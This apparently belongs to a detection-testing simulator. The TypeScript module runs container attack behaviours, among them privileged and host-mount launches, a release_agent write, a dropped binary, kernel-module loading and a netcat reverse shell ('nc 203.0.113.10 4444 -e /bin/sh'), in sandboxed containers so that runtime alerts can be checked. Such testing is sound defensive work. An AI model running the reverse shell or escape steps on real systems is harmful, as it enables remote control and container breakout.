/**
 * Container behaviours: shells and terminals in containers, risky container launches, escape
 * techniques and reverse-shell building blocks. Every action starts its own container from the
 * local busybox image (podman, runc) and removes it afterwards; containers have no network
 * unless the action gives them a private lab namespace.
 *
 * @example
 * ```ts
 * const c = await sleeper(ctx, "shell"); // a container of the simulator's image, removed afterwards
 * await c.exec(["sh", "-c", "id"]);
 * metadataFacts(c.id, c.name); // the container.* facts its alerts must carry
 * ```
 * @module
 */

import type { Action, ActionContext } from "../action.ts";
import { incubating, sandbox } from "../action.ts";
import { requireCall } from "../command.ts";
import { IMAGE_REPOSITORY, IN_IMAGE, runOnce, startContainer } from "../podman.ts";
import { createNetLab } from "../netlab.ts";
import { evidenceOf, expectExit } from "./util.ts";

/** No network at all (the default for container actions). */
export const NO_NET = ["--network", "none"];

/**
 * What every container action's alert must carry about its container: the id (from the cgroup)
 * and the runtime's metadata. The attacks start at once, without leaving the agent time to look
 * the container up: its metadata must be there from the container's first event.
 */
export const METADATA_EXPECT = ["container.id", "container.name", "container.image.repository"];

/** The container facts every container action reports. */
export function metadataFacts(id: string, name: string): Record<string, string> {
  return {
    "container.id": id.slice(0, 12),
    "container.name": name,
    "container.image.repository": IMAGE_REPOSITORY,
  };
}

/** A running container to exec into (the attack follows its start at once). */
export async function sleeper(ctx: ActionContext, label: string, flags: string[] = NO_NET) {
  return startContainer(ctx.ws, await ctx.image(), label, { flags, settleMs: 300 });
}

/** Container actions. */
export const CONTAINER_ACTIONS: Action[] = [
  {
    name: "container-terminal-shell",
    rule: "Terminal shell in container",
    falcoRule: "Terminal shell in container",
    technique: "T1059.004",
    summary: "podman run -t ... sh: a shell with a terminal as the container's entry process",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.name"],
    async run(ctx) {
      // The runtime (conmon) stays the shell's parent, as with `docker run -it`. An `exec -t`
      // shell is reparented to the host's pid 1 once runc's helpers exit.
      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "tty", [
        "sh",
        "-c",
        "tty; sleep 1",
      ], [...NO_NET, "-t"]);
      expectExit(result, "podman run -t sh");
      if (!result.stdout.includes("/dev/pts/")) throw new Error(`no terminal: ${result.stdout}`);
      return {
        facts: { "proc.name": "sh", ...metadataFacts(id, name) },
        containerId: id,
        evidence: evidenceOf(result, "podman run -t sh"),
      };
    },
  },
  {
    name: "container-app-spawns-shell",
    rule: "Shell spawned by program in container",
    technique: "T1059.004",
    summary: "a program inside a container starts sh -c (no terminal), as an exploited app would",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", "proc.pname", ...METADATA_EXPECT],
    async run(ctx) {
      const c = await sleeper(ctx, "appshell");
      const r = await c.exec([IN_IMAGE.helper, "spawn", "/bin/sh", "-c", "id > /dev/null"]);
      requireCall(r, "execve", true);
      return {
        facts: { "proc.name": "sh", "proc.pname": "saker-sim", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim spawn sh"),
      };
    },
  },
  {
    name: "privileged-container",
    rule: "Privileged container started",
    technique: "T1610",
    summary: "podman run --privileged (the entry process exits at once)",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: [...METADATA_EXPECT],
    falcoTargets: [
      incubating("Launch Privileged Container", "proc.name", ...METADATA_EXPECT),
      incubating("Launch Excessively Capable Container", "proc.name", ...METADATA_EXPECT),
      sandbox("Container Run as Root User", "proc.name", "user.uid", ...METADATA_EXPECT),
    ],
    async run(ctx) {
      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "priv", [
        IN_IMAGE.helper,
        "noop",
      ], [
        ...NO_NET,
        "--privileged",
      ]);
      expectExit(result, "podman run --privileged");
      return {
        facts: {
          "proc.name": "saker-sim",
          "user.uid": 0,
          ...metadataFacts(id, name),
          "container.privileged": true,
        },
        containerId: id,
        evidence: evidenceOf(result, "podman run --privileged"),
      };
    },
  },
  {
    name: "sensitive-mount-container",
    rule: "Container with sensitive host mount started",
    technique: "T1611",
    summary: "podman run -v /etc:/host-etc:ro (the host's /etc inside a container)",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: [...METADATA_EXPECT],
    falcoTargets: [sandbox("Launch Sensitive Mount Container", "proc.name", ...METADATA_EXPECT)],
    async run(ctx) {
      const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "mount", [
        IN_IMAGE.helper,
        "noop",
      ], [
        ...NO_NET,
        "-v",
        "/etc:/host-etc:ro",
      ]);
      expectExit(result, "podman run -v /etc");
      return {
        facts: { "proc.name": "saker-sim", ...metadataFacts(id, name) },
        containerId: id,
        evidence: evidenceOf(result, "podman run -v /etc:/host-etc:ro"),
      };
    },
  },
  {
    name: "container-debugfs",
    rule: "Debugfs run in privileged container",
    falcoRule: "Debugfs Launched in Privileged Container",
    technique: "T1611",
    summary: "runs a program named debugfs inside a privileged container",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.name"],
    async run(ctx) {
      const c = await sleeper(ctx, "debugfs", [...NO_NET, "--privileged"]);
      const r = await c.exec([IN_IMAGE.debugfs, "noop"]);
      expectExit(r, "debugfs");
      return {
        facts: { "proc.name": "debugfs", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec debugfs"),
      };
    },
  },
  {
    name: "container-release-agent",
    rule: "Cgroup release_agent written in container",
    falcoRule: "Detect release_agent File Container Escapes",
    technique: "T1611",
    summary: "root with CAP_SYS_ADMIN in a container opens a file named release_agent for writing",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["fd.name", "proc.name", "user.uid", ...METADATA_EXPECT],
    falcoExpect: ["fd.name", "proc.name", "user.name"],
    async run(ctx) {
      const c = await sleeper(ctx, "relagent", [...NO_NET, "--cap-add", "SYS_ADMIN"]);
      const path = "/tmp/release_agent";
      const r = await c.exec([IN_IMAGE.helper, "open", path, "wc"]);
      requireCall(r, "openat", true);
      return {
        facts: {
          "fd.name": path,
          "proc.name": "saker-sim",
          "user.name": "root",
          "user.uid": 0,
          ...metadataFacts(c.id, c.name),
        },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim open release_agent"),
      };
    },
  },
  {
    name: "container-drop-and-exec",
    rule: "Dropped binary executed in container",
    falcoRule: "Drop and execute new binary in container",
    technique: "T1105",
    summary: "copies a program into a running container's /tmp and executes it",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.exe", "proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.exe", "proc.name"],
    falcoTargets: [
      sandbox("Container Drift Detected (open+create)", "evt.arg.name", ...METADATA_EXPECT),
    ],
    async run(ctx) {
      const c = await sleeper(ctx, "drop");
      const dropped = "/tmp/saker-dropped";
      const cp = await c.exec(["cp", IN_IMAGE.helper, dropped]);
      expectExit(cp, "cp into container");
      const r = await c.exec([dropped, "noop"]);
      expectExit(r, "dropped binary");
      return {
        facts: {
          "proc.exe": dropped,
          "evt.arg.name": dropped,
          "proc.name": "saker-dropped",
          ...metadataFacts(c.id, c.name),
        },
        containerId: c.id,
        evidence: [...evidenceOf(cp, "podman exec cp"), ...evidenceOf(r, "podman exec dropped")],
      };
    },
  },
  {
    name: "container-packet-socket",
    rule: "Raw packet socket opened in container",
    falcoRule: "Packet socket created in container",
    technique: "T1557.002",
    summary: "opens a raw AF_PACKET socket inside a container (with CAP_NET_RAW)",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.name"],
    async run(ctx) {
      const c = await sleeper(ctx, "packet", [...NO_NET, "--cap-add", "NET_RAW"]);
      const r = await c.exec([IN_IMAGE.helper, "packet-socket"]);
      requireCall(r, "socket", true);
      return {
        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim packet-socket"),
      };
    },
  },
  {
    name: "container-stdio-to-socket",
    rule: "Standard streams redirected to socket in container",
    falcoRule: "Redirect STDOUT/STDIN to Network Connection in Container",
    technique: "T1059.004",
    summary: "inside a container, makes a connected TCP socket the program's stdin/stdout/stderr",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", "fd.type", "fd.l4proto", ...METADATA_EXPECT],
    falcoExpect: ["proc.name", "fd.type", "fd.l4proto"],
    async run(ctx) {
      const c = await sleeper(ctx, "redirect");
      const r = await c.exec([IN_IMAGE.helper, "dup-socket"]);
      requireCall(r, "dup2", true);
      return {
        facts: {
          "proc.name": "saker-sim",
          "fd.type": "ipv4",
          "fd.l4proto": "tcp",
          ...metadataFacts(c.id, c.name),
        },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim dup-socket"),
      };
    },
  },
  {
    name: "container-netcat-exec",
    rule: "Netcat command execution in container",
    falcoRule: "Netcat Remote Code Execution in Container",
    technique: "T1059.004",
    summary: "nc 203.0.113.10 4444 -e /bin/sh inside a container without network",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.name"],
    falcoTargets: [
      incubating("Launch Suspicious Network Tool in Container", "proc.name", ...METADATA_EXPECT),
    ],
    async run(ctx) {
      const c = await sleeper(ctx, "netcat");
      const r = await c.exec(["nc", "-w", "1", "203.0.113.10", "4444", "-e", "/bin/sh"]);
      // No network in the container: nc fails to connect after it started. That is enough,
      // but a usage error would mean nc never tried.
      if (/Usage:/.test(r.stderr)) throw new Error(`nc rejected its arguments: ${r.stderr}`);
      return {
        facts: { "proc.name": "nc", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec nc -e"),
      };
    },
  },
  {
    name: "container-kernel-module",
    rule: "Kernel module load from container",
    falcoRule: "Linux Kernel Module Injection Detected",
    technique: "T1611",
    summary: "a container with CAP_SYS_MODULE calls finit_module on a non-module file (refused)",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoExpect: ["proc.name"],
    async run(ctx) {
      const c = await sleeper(ctx, "kmod", [...NO_NET, "--cap-add", "SYS_MODULE"]);
      const r = await c.exec([IN_IMAGE.helper, "finit-module", "/etc/passwd"]);
      const call = requireCall(r, "finit_module");
      if (call.result === 0) throw new Error("the kernel accepted /etc/passwd as a module");
      return {
        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim finit-module"),
      };
    },
  },
  {
    name: "container-unshare",
    rule: "Namespace unshared in unprivileged container",
    technique: "T1611",
    summary: "an unprivileged container process calls unshare(CLONE_NEWUTS) (refused)",
    kind: "container",
    needs: ["root", "podman", "gcc"],
    expect: ["proc.name", ...METADATA_EXPECT],
    falcoTargets: [
      incubating(
        "Change namespace privileges via unshare",
        "proc.name",
        "evt.res",
        ...METADATA_EXPECT,
      ),
    ],
    async run(ctx) {
      const c = await sleeper(ctx, "unshare");
      const r = await c.exec([IN_IMAGE.helper, "unshare-uts"]);
      requireCall(r, "unshare");
      return {
        facts: { "evt.res": "EPERM", "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim unshare-uts"),
      };
    },
  },
  {
    name: "container-metadata-service",
    rule: "Cloud metadata service contacted from container",
    technique: "T1552.005",
    summary: "a container connects to 169.254.169.254:80 (served in a private lab namespace)",
    kind: "container",
    needs: ["root", "podman", "gcc", "netns"],
    expect: ["proc.name", "fd.sip", ...METADATA_EXPECT],
    falcoTargets: [
      incubating("Contact EC2 Instance Metadata Service From Container", "fd.name", "proc.name"),
      incubating("Contact cloud metadata service from container", "fd.name", "proc.name"),
    ],
    async run(ctx) {
      const lab = await createNetLab(ctx.ws, await ctx.helper(), {
        client: "169.254.1.2/16",
        server: "169.254.169.254/16",
        ports: [80],
      });
      const c = await sleeper(ctx, "imds", ["--network", `ns:${lab.clientNsPath}`]);
      const r = await c.exec([IN_IMAGE.helper, "connect", lab.serverIp, "80", "tcp"]);
      requireCall(r, "connect", true);
      const local = requireCall(r, "getsockname", true).args;
      return {
        facts: {
          "proc.name": "saker-sim",
          "fd.sip": lab.serverIp,
          "fd.name": `${local}->${lab.serverIp}:80`,
          ...metadataFacts(c.id, c.name),
        },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim connect"),
      };
    },
  },
  {
    name: "container-k8s-api-contact",
    rule: "Kubernetes API server contacted from container",
    technique: "T1613",
    summary: "a container connects to an API server port (10.96.0.1:6443, private lab namespace)",
    kind: "container",
    needs: ["root", "podman", "gcc", "netns"],
    expect: ["proc.name", "fd.sip", "fd.sport", ...METADATA_EXPECT],
    async run(ctx) {
      const lab = await createNetLab(ctx.ws, await ctx.helper(), {
        client: "10.96.0.2/24",
        server: "10.96.0.1/24",
        ports: [6443],
      });
      const c = await sleeper(ctx, "k8sapi", ["--network", `ns:${lab.clientNsPath}`]);
      const r = await c.exec([IN_IMAGE.helper, "connect", lab.serverIp, "6443", "tcp"]);
      requireCall(r, "connect", true);
      return {
        facts: {
          "proc.name": "saker-sim",
          "fd.sip": lab.serverIp,
          "fd.sport": 6443,
          ...metadataFacts(c.id, c.name),
        },
        containerId: c.id,
        evidence: evidenceOf(r, "podman exec saker-sim connect"),
      };
    },
  },
];
